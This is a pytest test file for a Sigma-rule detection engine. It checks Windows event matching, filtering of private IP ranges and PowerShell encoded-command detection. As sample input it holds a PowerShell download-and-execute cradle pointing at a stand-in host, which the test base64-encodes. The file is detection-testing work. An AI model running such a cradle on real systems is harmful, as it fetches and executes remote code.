"""Rules written as SigmaHQ writes them (tests/data/sigmahq) load into skewsleuth's own
matcher: taxonomy field names, the modifiers SigmaHQ uses, and a skip (not a failure)
for what one SQL statement over single records cannot express."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from skewsleuth.rules import RuleError, load_rules
from skewsleuth.rules.testing import test_rule

SIGMAHQ = Path(__file__).parents[2] / "data" / "sigmahq"


@pytest.fixture(scope="module")
def loaded():
    skipped: list[str] = []
    rules = {r.id: r for r in load_rules([SIGMAHQ], builtin=False, skipped=skipped)}
    return rules, skipped


def _check(rule, match, no_match):
    rule.tests = {"match": match, "no_match": no_match}
    result = test_rule(rule)
    assert result.passed, result.problems


def test_the_correlation_rule_is_skipped_with_its_name_and_why_and_the_rest_load(loaded):
    rules, skipped = loaded
    assert len(rules) == 4
    assert len(skipped) == 1 and "correlation_win_security_failed_logon" in skipped[0] and "correlation" in skipped[0]
    with pytest.raises(RuleError, match="correlation"):   # without a skipped list it is an error, as before
        load_rules([SIGMAHQ], builtin=False)


def test_provider_name_and_channel_match_what_the_builtin_form_matches(loaded):
    rule = loaded[0]["6f1d0a57-3c1e-4f4f-9b7e-2a0b7c5d0129"]
    _check(rule, [{"provider": "Microsoft-Windows-Time-Service", "event_id": 129, "channel": "System"}],
           [{"provider": "Microsoft-Windows-Time-Service", "event_id": 129, "channel": "Application"},
            {"provider": "Microsoft-Windows-Kernel-General", "event_id": 129, "channel": "System"}])


def test_cidr_keeps_public_addresses_and_filters_private_v4_and_v6(loaded):
    rule = loaded[0]["259a9cdf-c4dd-4fa2-b243-2269e5ab18a2"]

    def logon(ip):
        return {"provider": "Microsoft-Windows-Security-Auditing", "event_id": 4624,
                "data": {"LogonType": "10", "IpAddress": ip}}
    _check(rule, [logon("203.0.113.9"), logon("172.32.0.1"), logon("2001:db8::5"), logon("fec0::1")],
           [logon(ip) for ip in ("10.1.2.3", "172.31.255.254", "192.168.0.10", "::1", "fd12:3456::1",
                                 "fe80::1c2d:3e4f", "febf::1", "::ffff:10.0.0.5", "-")])


def test_base64offset_windash_fieldref_and_keywords_all(loaded):
    rule = loaded[0]["0c2c1c7a-1f43-4a7e-8f7e-5a3b1d9e0b64"]
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://x')"

    def proc(cmd, image="C:\\Windows\\explorer.exe", parent="C:\\Windows\\System32\\cmd.exe"):
        return {"provider": "Microsoft-Windows-Security-Auditing", "event_id": 4688,
                "data": {"CommandLine": cmd, "Image": image, "ParentImage": parent}}
    # the payload at each of base64's three alignments inside a longer encoded text
    encoded = [proc("powershell -e " + base64.b64encode((pad + payload).encode()).decode()) for pad in ("", "a", "ab")]
    dashes = [proc(f"pwsh.exe {d}EncodedCommand AAAA") for d in ("-", "/", "\u2013", "\u2014", "\u2015")]
    _check(rule, encoded + dashes + [proc("x", image="C:\\A\\b.exe", parent="c:\\a\\B.EXE"),
                                     {"message": "PowerShell started with window style Hidden"}],
           [proc("powershell -e " + base64.b64encode(b"Write-Host hello world").decode()),
            proc("pwsh.exe x-EncodedCommand AAAA"), proc("nothing"),
            {"message": "powershell started"}])
